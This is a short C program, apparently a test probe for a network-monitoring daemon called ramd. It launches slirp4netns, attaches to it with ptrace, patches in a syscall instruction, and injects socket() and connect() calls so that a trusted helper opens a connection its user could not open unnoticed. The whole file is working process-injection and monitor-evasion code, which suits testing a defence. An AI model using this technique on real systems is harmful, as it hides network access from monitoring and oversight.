/* The host's slirp4netns, started by its user under its own name with
 * nothing of the user's in it (it waits, blocked, for a writer on a FIFO it
 * takes for its namespace's path), so ramd lets it through (WAIT_MS). Then
 * its user attaches with ptrace (as any user may to its own process),
 * waits SETTLE_MS, and makes it run socket() and connect(TO, PORT). Prints
 * "ok", the errno, or what failed. ramd looks at a relay again on every
 * scan, so a helper traced for longer than a scan carries nothing of its
 * user's. Usage: latetrace HELPER FIFO TO PORT WAIT_MS SETTLE_MS */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static long inject(pid_t pid, const struct user_regs_struct *saved, unsigned long at, long nr, long a, long b,
                   long c) {
    struct user_regs_struct regs = *saved;
    regs.rip = at;
    regs.rax = nr;
    regs.orig_rax = -1;
    regs.rdi = a;
    regs.rsi = b;
    regs.rdx = c;
    int status;
    if (ptrace(PTRACE_SETREGS, pid, 0, &regs) != 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) != 0 ||
        waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0)
        return -100000;
    return (long)regs.rax;
}

int main(int argc, char **argv) {
    if (argc != 7) return 2;
    pid_t helper = fork();
    if (helper == 0) {
        int null = open("/dev/null", O_RDWR);
        dup2(null, 0);
        dup2(null, 1);
        dup2(null, 2);
        execl(argv[1], "slirp4netns", "--netns-type=path", argv[2], "tap0", (char *)NULL);
        _exit(127);
    }
    usleep(atoi(argv[5]) * 1000);
    int status;
    if (ptrace(PTRACE_ATTACH, helper, 0, 0) != 0) {
        printf("attach: %s\n", strerrorname_np(errno));
        return 1;
    }
    if (waitpid(helper, &status, 0) != helper || !WIFSTOPPED(status)) {
        printf("no attach stop\n");
        return 1;
    }
    usleep(atoi(argv[6]) * 1000);
    struct user_regs_struct saved;
    if (ptrace(PTRACE_GETREGS, helper, 0, &saved) != 0) {
        printf("getregs: %s\n", strerrorname_np(errno));
        return 1;
    }
    unsigned long at = saved.rip;
    errno = 0;
    long word = ptrace(PTRACE_PEEKTEXT, helper, at, 0);
    if (errno != 0 || ptrace(PTRACE_POKETEXT, helper, at, (word & ~0xffffL) | 0x050f) != 0) {
        printf("poke: %s\n", strerrorname_np(errno));
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(atoi(argv[4]))};
    inet_pton(AF_INET, argv[3], &to.sin_addr);
    long words[2];
    memcpy(words, &to, sizeof words);
    unsigned long sa = (saved.rsp - 1024) & ~0xfUL;
    ptrace(PTRACE_POKEDATA, helper, sa, words[0]);
    ptrace(PTRACE_POKEDATA, helper, sa + 8, words[1]);
    long fd = inject(helper, &saved, at, SYS_socket, AF_INET, SOCK_STREAM, 0);
    long r = fd < 0 ? fd : inject(helper, &saved, at, SYS_connect, fd, sa, sizeof to);
    if (r == 0) printf("ok\n");
    else if (r > -4096) printf("%s\n", strerrorname_np(-r));
    else printf("ptrace failed\n");
    fflush(stdout);
    kill(helper, SIGKILL);
    waitpid(helper, &status, 0);
    return 0;
}
